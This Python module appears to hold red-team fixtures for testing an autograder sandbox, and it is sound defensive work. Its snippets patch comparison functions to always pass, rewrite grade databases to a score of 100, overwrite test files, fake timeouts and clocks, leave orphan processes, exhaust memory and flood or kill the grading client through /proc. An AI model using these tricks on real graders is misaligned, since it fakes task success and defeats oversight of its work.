"""Red-team submissions: each attempts one attack from inside a learner's solution cell.

Every attacker submits a wrong `sinusoidal_encoding` (zeros of the right shape) followed by the
attack, and the reference code for the other functions; the `control` learner submits the same
wrong code with no attack.  An attack gained nothing when no cell scores above the control's.
"""
MARKER = "987654"   # the sleep time of the orphan processes, to find any that survive

WRONG = '''def sinusoidal_encoding(seq_len, d_model, base=10000.0):
    return torch.zeros(seq_len, d_model)
'''

SNIPPETS = {
    "control": "",
    "patch_comparisons": '''
import numpy.testing
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
numpy.testing.assert_allclose = lambda *a, **k: None
''',
    "replace_assertion_error": '''
import builtins
class _Never(Exception):
    pass
builtins.AssertionError = _Never
''',
    "loot_filesystem": '''
import os, sqlite3
_found = 0
for _root, _dirs, _files in os.walk("/"):
    if _root.startswith(("/proc", "/sys", "/dev")):
        _dirs[:] = []
        continue
    for _f in _files:
        _path = os.path.join(_root, _f)
        if _f.endswith(".db"):
            try:
                _c = sqlite3.connect(_path)
                _c.execute("UPDATE grade SET auto_score = 100")
                _c.commit()
                print("wrote", _path)
            except Exception:
                pass
        if _f.startswith("test") and _f.endswith(".py") or _f.endswith(".ipynb"):
            _found += 1
            if "site-packages" in _root or _root.startswith("/usr"):
                continue
            try:
                print(_path, open(_path).read()[:20000])
                with open(_path, "w") as _h:
                    _h.write("def test_pass():\\n    pass\\n")
                print("overwrote", _path)
            except OSError:
                pass
print("files found:", _found)
''',
    "sys_exit": "\nimport sys\nsys.exit(0)\n",
    "os_exit": "\nimport os\nos._exit(0)\n",
    "spin": "\nwhile True:\n    pass\n",
    # The notebook's run reports a cell stopped at the cell limit (20 s in tests/test_redteam.py) with this error,
    # and the suite's worker does not run such a cell again: saying so of one's own cell can only lose its names.
    "fake_timeout": '\nraise TimeoutError("this cell did not finish within 20 s")\n',
    "huge_output": "\nimport sys\nfor _ in range(300):\n    sys.stdout.write('x' * (1 << 20))\n",
    "fake_clock": '''
import time
_now = [0.0]
def _fake():
    _now[0] += 1e-9
    return _now[0]
time.perf_counter = _fake
time.monotonic = _fake
time.time = _fake
''',
    "orphans": f'''
import os, subprocess
subprocess.Popen(["sleep", "{MARKER}"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    os.execvp("sleep", ["sleep", "{MARKER}"])
''',
    "socket": '''
import socket
try:
    socket.create_connection(("127.0.0.1", PORT), timeout=3).sendall(b"pwned")
except OSError as _e:
    print("no network:", _e)
''',
    # A worker is forked from the grader's fork server: look for its socket, and for anything of the course left
    # in the memory it inherited (the server imports torch and nothing of the course).
    "fork_server": '''
import gc, glob, socket
for _path in glob.glob("/tmp/**/*.sock", recursive=True) + glob.glob("/sandbox/**/*.sock", recursive=True):
    try:
        socket.socket(socket.AF_UNIX).connect(_path)
        print("reached", _path)
    except OSError:
        pass
_found = [o for o in gc.get_objects() if isinstance(o, str) and ("BEGIN " + "SOLUTION" in o or "def " + "test_" in o)]
if _found:
    print("found course text:", _found[0][:200])
''',
    "exhaust_memory": '''
_hog = []
try:
    while True:
        _hog.append(bytearray(1 << 28))
except MemoryError:
    pass
_hog = None
''',
}

# Attacks on the notebook file itself, applied to the control learner's notebook.
NOTEBOOK_ATTACKS = ("edit_graded_cell", "delete_graded_cell", "change_grade_id", "fake_output", "corrupt_json")


# The flood: in the notebook's kernel only (the grader's worker has no client to attack).  Its notebook client is
# not dumpable, so the kernel cannot open the client's pipe to the grader through /proc: it says so, floods the
# client with 20,000 outputs instead, and kills the client only where the pipe was reached.
FLOOD = r'''
try:
    get_ipython
except NameError:
    pass
else:
    import json as _json, os as _os, signal as _signal
    from IPython.display import display as _display
    _client = _os.getppid()
    _one = _json.dumps({"output_type": "display_data", "data": {"text/plain": "x"}, "metadata": {}})
    try:
        _err = _os.readlink(f"/proc/{_client}/fd/2")
        for _fd in _os.listdir(f"/proc/{_client}/fd"):
            _link = _os.readlink(f"/proc/{_client}/fd/{_fd}")
            if _link.startswith("pipe:") and _link != _err:     # the client's private stdout to the grader
                with open(f"/proc/{_client}/fd/{_fd}", "w") as _pipe:
                    for _index in range(11, -1, -1):            # 300,000 outputs, straight to the grader
                        _pipe.write('{"index": %d, "outputs": [%s]}\n' % (_index, ",".join([_one] * 25_000)))
    except OSError:
        print("the grader's pipe could not be reached")
    else:
        _os.kill(_client, _signal.SIGKILL)
        _os._exit(0)
    for _ in range(20_000):                                   # through the notebook client
        _display({"text/plain": "x"}, raw=True)
'''

# Heavy but honest: after every later cell, an image of about 1.9 MiB, within one cell's limit (2 MiB), so that the
# notebook's outputs pass their limit (8 MiB) through the notebook client itself.
HEAVY = r'''
try:
    get_ipython
except NameError:
    pass
else:
    import base64 as _b64, os as _os
    from IPython.display import display as _display
    _png = _b64.b64encode(_os.urandom(1_400_000)).decode()
    get_ipython().events.register("post_run_cell", lambda *_: _display({"image/png": _png}, raw=True))
'''
